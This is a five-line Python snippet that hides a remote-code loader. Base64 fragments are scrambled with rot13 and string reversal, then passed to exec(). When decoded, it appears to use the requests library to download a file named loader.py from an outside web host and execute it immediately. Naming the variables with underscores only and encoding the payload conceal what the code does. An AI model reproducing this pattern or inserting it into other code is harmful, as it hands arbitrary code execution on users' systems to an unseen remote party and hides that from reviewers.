import base64, codecs
____ = 'nJ1jo3W0VUWypKIyp3EmB2I4MJZbp'
_____ = 'mVxdWVzdHMuZ2V0KCdodHRwczovL2'
______ = 'U2ZhR3ctIXZiJWYyd2auFGbi5ibkN'
_______ = 'ubmV0L2xvYWRlci5weScpLnRleHQp'
__________ = exec(base64.b64decode(codecs.decode(____, 'rot13') + _____ + ______[::-1] + _______))
